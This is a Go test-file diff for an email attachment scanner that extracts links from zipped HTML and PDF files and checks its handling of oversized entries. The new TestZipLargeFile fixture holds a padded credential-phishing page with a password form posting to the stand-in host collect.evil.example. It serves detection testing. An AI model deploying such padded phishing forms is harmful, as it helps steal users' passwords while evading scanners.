@@ -6,6 +6,7 @@ import (
 	"encoding/base64"
 	"errors"
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -78,8 +79,6 @@ func TestZipUnreadable(t *testing.T) {
 	z := zip.NewWriter(&b)
 	w, _ := z.CreateRaw(&zip.FileHeader{Name: "locked.html", Method: 99, CompressedSize64: 5, UncompressedSize64: 5})
 	w.Write([]byte("xxxxx"))
-	w, _ = z.CreateRaw(&zip.FileHeader{Name: "huge.html", Method: zip.Deflate, CompressedSize64: 5, UncompressedSize64: 1 << 40})
-	w.Write([]byte("xxxxx"))
 	z.Close()
 	for name, archive := range map[string][]byte{"unreadable entries": b.Bytes(), "not an archive": []byte("PK\x03\x04 broken")} {
 		msg := zipMail("Content-Type: application/zip", archive)
@@ -87,6 +86,16 @@ func TestZipUnreadable(t *testing.T) {
 		if err != nil || len(ls) != 0 {
 			t.Errorf("%s: Extract = %d links, %v; want none", name, len(ls), err)
 		}
+	}
+	// A page that says it is larger than an attachment may be is read as
+	// far as one is, and the scan is partial: its end was not read.
+	var h bytes.Buffer
+	z = zip.NewWriter(&h)
+	w, _ = z.CreateRaw(&zip.FileHeader{Name: "huge.html", Method: zip.Deflate, CompressedSize64: 5, UncompressedSize64: 1 << 40})
+	w.Write([]byte("xxxxx"))
+	z.Close()
+	if x, err := ExtractAll(zipMail("Content-Type: application/zip", h.Bytes()), Options{}); !errors.Is(err, ErrPartial) || !x.CutBody || len(x.Links) != 0 {
+		t.Errorf("huge entry: %d links, cut %v, %v; want none, cut, ErrPartial", len(x.Links), x.CutBody, err)
 	}
 	msg := zipMail("Content-Type: application/zip", ooxml(map[string]string{"a.html": `<a href="https://z.example/">x</a>`}))
 	ls, _ := Extract(msg, Options{})
@@ -135,5 +144,27 @@ func TestZipPDFForm(t *testing.T) {
 	ls, err := Extract(zipMail("Content-Type: application/zip", ooxml(map[string]string{"form.pdf": pdf})), Options{})
 	if err != nil || len(ls) != 1 || ls[0].Kind != KindPDF || !ls[0].Flags.Has(FlagSubmits) {
 		t.Fatalf("Extract = %+v, %v; want one pdf link with FlagSubmits", ls, err)
+	}
+}
+
+// TestZipLargeFile: a file in an archive is read as far as an attachment
+// is, whatever its size: a page padded past 1 MiB (a 2 KiB archive) hid its
+// form. Past the bound the scan is partial, and a cut page, like a cut
+// body, hides its end (CutBody); a cut picture or PDF does not.
+func TestZipLargeFile(t *testing.T) {
+	form := `<form action="https://collect.evil.example/p"><input type="password"></form>`
+	padded := "<html><body><!-- " + strings.Repeat("x", 1100<<10) + " -->" + form + "</body></html>"
+	x, err := ExtractAll(zipMail("Content-Type: application/zip", ooxml(map[string]string{"Remittance.html": padded})), Options{})
+	if err != nil || len(x.Links) != 1 || x.Links[0].URL != "https://collect.evil.example/p" || x.CutBody {
+		t.Errorf("padded page: %+v, cut %v, %v; want the form, whole", x.Links, x.CutBody, err)
+	}
+	opts := Options{MaxPartBytes: 512 << 10}
+	x, err = ExtractAll(zipMail("Content-Type: application/zip", ooxml(map[string]string{"Remittance.html": padded})), opts)
+	if !errors.Is(err, ErrPartial) || !x.CutBody {
+		t.Errorf("page past MaxPartBytes: cut %v, %v; want cut, ErrPartial", x.CutBody, err)
+	}
+	x, err = ExtractAll(zipMail("Content-Type: application/zip", ooxml(map[string]string{"scan.pdf": "%PDF-1.4 " + strings.Repeat("x", 600<<10)})), opts)
+	if !errors.Is(err, ErrPartial) || x.CutBody {
+		t.Errorf("PDF past MaxPartBytes: cut %v, %v; want partial, not cut", x.CutBody, err)
 	}
 }
